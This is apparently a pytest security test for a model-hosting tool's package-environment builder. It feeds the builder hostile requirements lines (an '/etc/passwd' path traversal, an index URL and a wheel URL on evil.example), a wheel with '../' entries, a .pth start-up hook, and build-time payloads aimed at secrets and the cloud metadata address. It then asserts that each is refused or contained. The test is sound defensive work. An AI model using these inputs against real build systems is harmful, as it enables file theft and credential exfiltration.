"""One model whose requirements, wheel and source distribution are all hostile, built as a worker builds it."""

from __future__ import annotations

import ast
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings

from environments.packages import PackageIndex, pip_wheel, sdist, wheel, write
from mop.environments import Environment, ensure_environment
from mop.errors import EnvironmentBuildError, RequirementsFileError
from mop.hosting.tools import HostTools, open_host_tools
from security.build_attack import Witness, at_a_start, in_a_build, result_of

pytestmark = pytest.mark.sandbox

PASSWORD = "index-password-hunter2"
BYSTANDER = "a-word-of-another-process"
PYTHON = "{}.{}".format(*sys.version_info[:2])


@dataclass
class Victim:
    """A model folder, the host around it, and what the builds said."""

    folder: Path
    tools: HostTools
    index: PackageIndex
    witness: Witness
    log: list[str]

    @property
    def marker(self) -> Path:
        return self.folder / "marker"

    @property
    def goal(self) -> dict[str, Any]:
        """What the attacks are after."""
        root = self.tools.environments.root
        return {
            **self.witness.goal,
            "writes": [str(self.marker), str(root / "envs" / "mark"), f"{settings.MOP_HOME}/mark"],
            "reads": [str(self.folder / "secret"), f"{settings.MOP_HOME}/secret", str(settings.MOP_RUNTIME_FOLDER)],
            "secrets": [PASSWORD[::-1], BYSTANDER[::-1]],
        }

    async def build(self, requirements: str) -> Environment:
        src = self.folder / "src"
        src.mkdir(exist_ok=True)
        (src / "settings.yml").write_text(f"env:\n  python: {PYTHON}\n  pip: 24.0\n", encoding="utf-8")
        (src / "requirements.txt").write_text(requirements, encoding="utf-8")
        return await ensure_environment(
            src,
            self.folder / "privatepkgs",
            config=self.tools.environments,
            cage=self.tools.cage,
            prepare_writable=self.tools.prepare_writable,
            log=self.log.append,
        )

    def assert_unharmed(self) -> None:
        assert not self.marker.exists()
        assert self.witness.visits == []
        assert [path for path in self.folder.rglob("mark*") if path.is_file()] == []
        assert not (settings.MOP_HOME / "mark").exists()


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Victim]:
    index, witness = PackageIndex(), Witness(tmp_path)
    index.add(pip_wheel(), wheel("tiny", "1.0"))
    (tmp_path / "secret").write_text("of the host")
    tools = open_host_tools()
    config = replace(
        tools.environments,
        root=tmp_path / "environments",
        index_url=index.url.replace("://", f"://reader:{PASSWORD}@"),
        index_retries=0,
        build_seconds=120,
    )
    with subprocess.Popen([sys.executable, "-S", "-c", "input()", BYSTANDER], stdin=subprocess.PIPE) as bystander:
        yield Victim(tmp_path, replace(tools, environments=config), index, witness, [])
        bystander.kill()
    witness.close()
    index.close()


async def test_a_hostile_sdist_wheel_and_requirements_file_harm_and_steal_nothing(victim: Victim) -> None:
    goal = victim.goal
    victim.index.add(sdist("quiet", "1.0", prelude=in_a_build(goal)))

    # a requirements file that reaches beyond the index: refused with its line before anything runs
    for line in (
        "-r ../../../etc/passwd",
        "--index-url http://evil.example/simple",
        "quiet @ http://evil.example/q.whl",
    ):
        with pytest.raises(RequirementsFileError) as refused:
            await victim.build(f"tiny==1.0\n{line}\n")
        assert refused.value.place == "src/requirements.txt:2"

    # a wheel that would be unpacked beyond the environment: refused by its listing
    escaping = wheel("helper", "1.0", files={"helper.py": "", f"../../../../../../..{victim.marker}": "was here"})
    path = write(victim.folder / "privatepkgs", escaping)
    with pytest.raises(EnvironmentBuildError, match=r"helper-1\.0-py3-none-any\.whl: .*'\.\.'") as caught:
        await victim.build("quiet==1.0\n")
    assert caught.value.place == "privatepkgs/helper-1.0-py3-none-any.whl"
    assert victim.log == []
    assert victim.index.downloads == []
    victim.assert_unharmed()
    path.unlink()

    # a wheel that runs code at every start, and a package that is built from source: built, and both in the cage
    hooks = {"helper_hook.py": at_a_start(goal), "helper.pth": "import helper_hook\n"}
    write(victim.folder / "privatepkgs", wheel("helper", "1.0", files=hooks))
    environment = await victim.build("quiet==1.0 ; python_version > '3'\ntiny==1.0\n")
    victim.assert_unharmed()
    [module] = environment.path.glob("lib/python3.*/site-packages/quiet.py")
    in_build = result_of(ast.literal_eval(module.read_text().splitlines()[-1].removeprefix("result = ")))
    [printed] = [line for line in victim.log if line.startswith("hook {")]
    at_start = json.JSONDecoder().raw_decode(printed.removeprefix("hook "))[0]
    assert in_build["worked"] == []
    assert at_start["worked"] == []
    assert in_build["failed"]["proxy CONNECT evil.example:443"] == "OSError: HTTP/1.1 403 Forbidden"
    assert re.fullmatch(r"KeyError: .*", at_start["failed"]["proxy CONNECT evil.example:443"])

    # the log tells of the index and of what was tried, and the owner is told too
    place = victim.index.url.split("/")[2]
    assert [line for line in victim.log if "reaches" in line] == [f"the build reaches the package index at {place}"]
    port = goal["tcp"]
    tried = [
        f"the build tried to reach {one}, which is no package index of this installation; refused"
        for one in (
            *("evil.example:443", f"127.0.0.1:{port}", "169.254.169.254:80", "192.0.2.1:443", "evil.example:80"),
        )
    ]
    assert [line for line in victim.log if "tried to reach" in line] == tried
    assert set(tried) <= set(environment.notes)
    assert any("runs code at every start of Python: helper.pth" in note for note in environment.notes)
    assert sorted(set(victim.index.downloads)) == [
        "pip-24.0-py3-none-any.whl",
        "quiet-1.0.tar.gz",
        "tiny-1.0-py3-none-any.whl",
    ]
    assert PASSWORD not in "\n".join((*victim.log, *environment.notes))


async def test_an_index_that_links_to_another_host_says_which_and_how_to_allow_it(victim: Victim) -> None:
    port = victim.goal["tcp"]
    victim.index.links["astray"] = f"http://127.0.0.1:{port}/astray-1.0-py3-none-any.whl"
    with pytest.raises(EnvironmentBuildError, match=rf"links to .*127\.0\.0\.1:{port}") as caught:
        await victim.build("astray==1.0\n")
    assert "MOP_INDEX_FILE_HOSTS" in (caught.value.hint or "")
    victim.assert_unharmed()
